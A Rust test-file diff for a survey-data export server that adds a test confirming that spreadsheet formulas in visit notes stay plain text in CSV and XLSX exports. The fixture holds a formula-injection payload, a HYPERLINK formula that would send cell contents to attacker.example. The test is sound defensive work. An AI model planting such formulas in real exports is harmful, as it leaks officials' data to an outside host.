@@ -130,10 +130,7 @@ fn ids(visits: &[Pushed]) -> HashSet<String> {
     visits.iter().map(|visit| visit.id.clone()).collect()
 }
 
-fn header<'h>(
-    headers: &'h reqwest::header::HeaderMap,
-    name: impl reqwest::header::AsHeaderName,
-) -> &'h str {
+fn header(headers: &reqwest::header::HeaderMap, name: impl reqwest::header::AsHeaderName) -> &str {
     headers
         .get(name)
         .and_then(|value| value.to_str().ok())
@@ -473,4 +470,55 @@ fn a_failure_half_way_is_a_cut_transfer_not_a_short_file() {
     let response = server.get("supervisor", "format=xlsx");
     assert_eq!(response.status(), StatusCode::INTERNAL_SERVER_ERROR);
     assert!(leftovers(&world).is_empty(), "{:?}", leftovers(&world));
+}
+
+#[test]
+fn a_formula_in_an_answer_stays_text_in_csv_and_xlsx() {
+    let world = World::new();
+    // A hostile device's note, meant to run when an official opens the
+    // export in a spreadsheet.
+    let formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"查看详情\")";
+    let cadre = world.cadre(VILLAGE_A);
+    let enrollment = world.raw_enrollment(cadre);
+    let mut answers = answers(1);
+    answers.insert("notes".into(), formula.into());
+    let visit = visit_record(&enrollment, world.village_a[0], answers);
+    let auth = DeviceAuth {
+        device_id: enrollment.device_id,
+        cadre_id: enrollment.cadre_id,
+    };
+    let change = Change {
+        seq: 1,
+        mutation: Mutation::Visit(visit),
+    };
+    let (results, _) = world
+        .store
+        .push(auth, &[change], None, chrono::Utc::now())
+        .expect("push");
+    assert_eq!(results[0].outcome, doorstep_protocol::Outcome::Applied);
+    let server = ExportServer::start(Arc::clone(&world.store));
+
+    let (_, body) = server.download("supervisor", "format=csv");
+    let rows = csv_rows(&body);
+    assert_eq!(rows[0]["notes"], format!("'{formula}"));
+    assert_eq!(rows[0]["income_wages"], "38000");
+
+    let (_, body) = server.download("supervisor", "format=xlsx");
+    let mut workbook = Xlsx::new(std::io::Cursor::new(body)).expect("an XLSX workbook");
+    let sheet = workbook
+        .worksheet_range("visits")
+        .expect("the visits sheet");
+    let rows: Vec<&[Data]> = sheet.rows().collect();
+    let notes = rows[0]
+        .iter()
+        .position(|cell| *cell == Data::String("notes".into()))
+        .expect("a notes column");
+    assert_eq!(rows[1][notes], Data::String(formula.into()));
+    let formulas = workbook
+        .worksheet_formula("visits")
+        .expect("the visits sheet's formulas");
+    assert!(
+        formulas.used_cells().all(|(_, _, text)| text.is_empty()),
+        "the workbook holds no formula"
+    );
 }
